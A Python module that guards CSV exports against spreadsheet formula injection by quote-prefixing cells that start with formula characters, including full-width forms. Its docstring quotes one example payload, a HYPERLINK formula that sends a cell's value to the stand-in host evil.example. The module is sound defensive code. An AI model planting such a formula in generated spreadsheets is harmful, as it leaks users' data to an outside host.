"""CSV that a spreadsheet opens as data, never as formulas (CSV injection).

A customer's name, a subject line or a draft reply is text from outside. Written unchanged into a
CSV, a cell such as `=HYPERLINK("http://evil.example/?"&A1, "open")` or `+SUM(...)` runs when
someone opens the report in Excel, LibreOffice or Google Sheets. OWASP's rule: a cell that begins
with `=`, `+`, `-`, `@`, a tab or a carriage return is prefixed with a single quote, which every
spreadsheet reads as "this is text".

Beyond the rule:

- leading whitespace does not save a cell: some spreadsheets trim it before they look for a
  formula, so `  =1+1` is prefixed too;
- the full-width forms of those four (U+FF1D, U+FF0B, U+FF0D, U+FF20) and their small forms
  (U+FE66, U+FE62, U+FE63, U+FE6B) are read as formulas by spreadsheets that normalise
  compatibility characters (Unicode NFKC), as East Asian input methods make them;
- a cell that is entirely a plain number (`-125.00`, `+3`, `-1,250.50`) is left alone: digits,
  one sign and separators cannot call a function, and a credit note's negative balance must stay
  a number the spreadsheet can add up. Several careful exporters draw the same line.

Every CSV the product writes goes through `safe_writer`.
"""

from __future__ import annotations

import csv
import re
import unicodedata
from collections.abc import Iterable
from decimal import Decimal
from typing import Any, Protocol

_FORMULA_START = frozenset("=+-@")
_CONTROL_START = frozenset("\t\r")
# ASCII only: a full-width digit after a full-width minus is not a number to every spreadsheet.
_PLAIN_NUMBER = re.compile(r"[+-]?[0-9]+(?:[.,][0-9]+)*")


class _Writable(Protocol):
    def write(self, text: str, /) -> Any: ...


def safe_cell(value: object) -> object:
    """The value as a spreadsheet should show it: numbers and empty values as they are, text
    that a spreadsheet would run as a formula with a leading `'`."""
    if value is None or isinstance(value, int | float | Decimal):
        return value
    text = str(value)
    if not text or _PLAIN_NUMBER.fullmatch(text.strip()):
        return text
    if text[0] in _CONTROL_START or _formula_char(text.lstrip()[:1]):
        return "'" + text
    return text


def _formula_char(char: str) -> bool:
    return bool(char) and unicodedata.normalize("NFKC", char) in _FORMULA_START


class SafeWriter:
    """A `csv.writer` whose rows are neutralised cell by cell (`safe_cell`)."""

    def __init__(self, buffer: _Writable, **fmtparams: Any) -> None:
        self._writer = csv.writer(buffer, **fmtparams)

    def writerow(self, row: Iterable[object]) -> Any:
        return self._writer.writerow([safe_cell(value) for value in row])

    def writerows(self, rows: Iterable[Iterable[object]]) -> None:
        for row in rows:
            self.writerow(row)


def safe_writer(buffer: _Writable, **fmtparams: Any) -> SafeWriter:
    """`csv.writer(buffer, **fmtparams)`, with formula-looking cells neutralised."""
    return SafeWriter(buffer, **fmtparams)
